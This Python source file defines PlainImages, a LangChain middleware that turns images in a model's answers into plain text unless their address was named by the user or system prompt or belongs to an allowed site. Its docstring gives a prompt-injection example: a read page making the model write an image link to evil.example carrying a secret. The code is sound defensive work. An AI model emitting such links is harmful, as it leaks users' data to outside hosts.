"""Keeps answers from having images fetched that a page may have had the model think of."""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable, Sequence
from functools import cache, partial
from typing import Any, Final

from langchain.agents.middleware import ModelResponse
from langchain_core.messages import AIMessage, HumanMessage
from typing_extensions import override

from langchain_openrouter import ConfigurationError
from openrouter_agents.foreign_images import defuse_images
from openrouter_agents.middleware.request_editing import AnyMiddleware, Request
from openrouter_agents.tools.pages.seen_addresses import addresses_in
from openrouter_agents.tools.search.urls import is_of_sites, is_web_address, read_domain

_DATA: Final = re.compile(r"data:image/(?:gif|jpeg|png|webp);base64,", re.IGNORECASE)


class PlainImages(AnyMiddleware):
    """Shows images of the model's answers as text, unless the user, or the system prompt, named their address.

    A page that was read can have the model write `![](https://evil.example/?q=SECRET)`, and whoever shows the answer
    would fetch that. Left as they are: pictures within the answer itself (`data:`), images of the sites that are
    allowed, fenced code, and structured answers. What is streamed has been read by then; the message in the state is
    the plain one.

    Args:
        allowed_sites: Hosts, with their subdomains, whose images may be shown, such as that of a tool that makes
            charts; `None`: all, which switches this off.

    Raises:
        ConfigurationError: One of the sites is none.
    """

    def __init__(self, allowed_sites: Sequence[str] | None = ()) -> None:
        super().__init__()
        self._sites = None if allowed_sites is None else tuple(map(_site, allowed_sites))

    @override
    def wrap_model_call(self, request: Request, handler: Callable[[Request], ModelResponse[Any]]) -> ModelResponse[Any]:
        return self._plain(handler(request), request)

    @override
    async def awrap_model_call(
        self, request: Request, handler: Callable[[Request], Awaitable[ModelResponse[Any]]]
    ) -> ModelResponse[Any]:
        return self._plain(await handler(request), request)

    def _plain(self, response: ModelResponse[Any], request: Request) -> ModelResponse[Any]:
        if self._sites is None or response.structured_response is not None:
            return response

        @cache  # for answers with images only
        def named() -> frozenset[str]:
            said = [message.text for message in request.state["messages"] if isinstance(message, HumanMessage)]
            system = [] if request.system_message is None else [request.system_message.text]
            return frozenset(address for text in (*said, *system) for address in addresses_in(text))

        sites = self._sites
        defuse = partial(defuse_images, is_allowed=lambda url: url in named() or _is_harmless(url, sites))
        result = [_edited(one, defuse) if isinstance(one, AIMessage) else one for one in response.result]
        return ModelResponse(result=result)


def _site(text: str) -> str:
    site = read_domain(text)
    if site is None:
        raise ConfigurationError(f"{text!r} is no site whose images could be allowed; give hosts, such as 'a.example'.")
    return site


def _is_harmless(url: str, sites: Sequence[str]) -> bool:
    if _DATA.match(url):
        return True
    # Browsers and Python agree on the host only where an address is plain.
    return url.isascii() and is_web_address(url) and is_of_sites(url, sites)


def _edited(message: AIMessage, edit: Callable[[str], str]) -> AIMessage:
    if isinstance(message.content, str):
        content: str | list[str | dict[str, Any]] = edit(message.content)
    else:
        content = [_edited_block(block, edit) for block in message.content]
    return message if content == message.content else message.model_copy(update={"content": content})


def _edited_block(block: str | dict[str, Any], edit: Callable[[str], str]) -> str | dict[str, Any]:
    if isinstance(block, str):
        return edit(block)
    return {**block, "text": edit(str(block.get("text", "")))} if block.get("type") == "text" else block
